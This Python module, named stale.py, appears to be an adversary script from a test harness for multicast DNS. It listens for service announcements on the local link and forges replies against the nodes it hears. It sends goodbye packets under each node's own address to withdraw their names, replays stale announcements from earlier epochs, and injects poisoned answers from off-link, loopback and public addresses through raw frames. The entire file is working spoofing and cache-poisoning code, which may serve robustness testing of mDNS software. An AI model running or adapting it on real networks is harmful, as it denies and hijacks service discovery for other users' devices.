"""Withdraws what nodes announce, repeats what they announced in earlier epochs, and answers from off the link.

    stale.py

At once after each packet of a node that shows its name, and 0.3 s, 1 s and then every 2 s after the first: a goodbye and a
goodbye with cache flush, from the attacker's address and from the address of the node itself; all announcements of earlier
epochs, from the addresses of the nodes too; and for every third name the same name with other data, with TTL 64 and 1, from
addresses and to addresses off the link, from another port, and by unicast to the port of multicast DNS. The other names have
goodbyes alone, because other data would show the name again to a node that had forgotten it.

Its frames have its own hardware address: with another one it would take the traffic of that host, on a bridge as on a
switch, and no program could do anything about it.
"""

import time

import wire

OFF_LINK = "192.0.2.77"


class Stale:
    def __init__(self):
        self.address, self.mac = wire.own_addresses()
        self.plain, self.raw = wire.group_socket(), wire.frame_socket()
        self.heard, self.macs, self.sent = {}, {}, {"goodbyes": 0, "repeated": 0, "offLink": 0}

    def mac_of(self, address):
        """The hardware address of a host, from the kernel's table of neighbours."""
        if address not in self.macs:
            shown = wire.subprocess.run(["ip", "neigh", "get", address, "dev", wire.INTERFACE], capture_output=True, text=True).stdout
            if "lladdr" not in shown:
                self.plain.sendto(b"", (address, 9))
                return self.mac
            self.macs[address] = bytes.fromhex(shown.split("lladdr")[1].split()[0].replace(":", ""))
        return self.macs[address]

    def goodbye(self, heard):
        for flush in (True, False):
            packet = wire.instance(heard.name, heard.host, heard.port, heard.addresses, ttl=0, flush=flush, pointer_flush=flush)
            self.plain.sendto(packet, (wire.GROUP, wire.PORT))
            self.raw.send(wire.udp_frame(heard.source, packet, self.mac))
            self.sent["goodbyes"] += 2

    def off_link(self, heard):
        wrong = wire.instance(heard.name, heard.host, heard.port ^ 1, [self.address])
        far = wire.instance(heard.name, heard.host, heard.port, ["8.8.8.8", OFF_LINK, "127.0.0.1", "224.0.0.251", "0.0.0.0"])
        frames = [
            wire.udp_frame(self.address, wrong, self.mac, ttl=64), wire.udp_frame(self.address, wrong, self.mac, ttl=1),
            wire.udp_frame(OFF_LINK, far, self.mac), wire.udp_frame(self.address, far, self.mac),
            wire.udp_frame(self.address, wrong, self.mac, source_port=5354),
        ]
        for other in {each.source for each in self.heard.values()} - {self.address}:
            frames.append(wire.udp_frame(self.address, wrong, self.mac, destination=other, destination_mac=self.mac_of(other)))
        for frame in frames:
            self.raw.send(frame)
        self.sent["offLink"] += len(frames)

    def repeat(self, names):
        for heard in names:
            self.plain.sendto(heard.payload, (wire.GROUP, wire.PORT))
            self.raw.send(wire.udp_frame(heard.source, heard.payload, self.mac))
            self.sent["repeated"] += 2

    def perform(self, figures):
        wire.ready()
        due, latest = [], {}
        try:
            while True:
                for payload, source in wire.listen(self.plain, time.time() + 0.05):
                    heard = payload and source != self.address and wire.announcement_in(payload, source)
                    if not heard:
                        continue
                    # At once after each packet that shows a name, so that it is never there for long.
                    self.goodbye(heard)
                    if heard.name in self.heard:
                        continue
                    now = time.time()
                    has_other_data = len(self.heard) % 3 == 0
                    self.heard[heard.name] = latest[source] = heard
                    due += [(now + after, heard, has_other_data) for after in (0, 0.3, 1, *range(3, 60, 2))]
                now = time.time()
                for entry in [entry for entry in due if entry[0] <= now]:
                    due.remove(entry)
                    _, heard, has_other_data = entry
                    self.goodbye(heard)
                    if has_other_data:
                        self.off_link(heard)
                    earlier = [each for each in self.heard.values() if latest[each.source] is not each]
                    self.repeat(earlier[-40:])
        finally:
            figures.update(self.sent)


if __name__ == "__main__":
    wire.perform(Stale().perform)
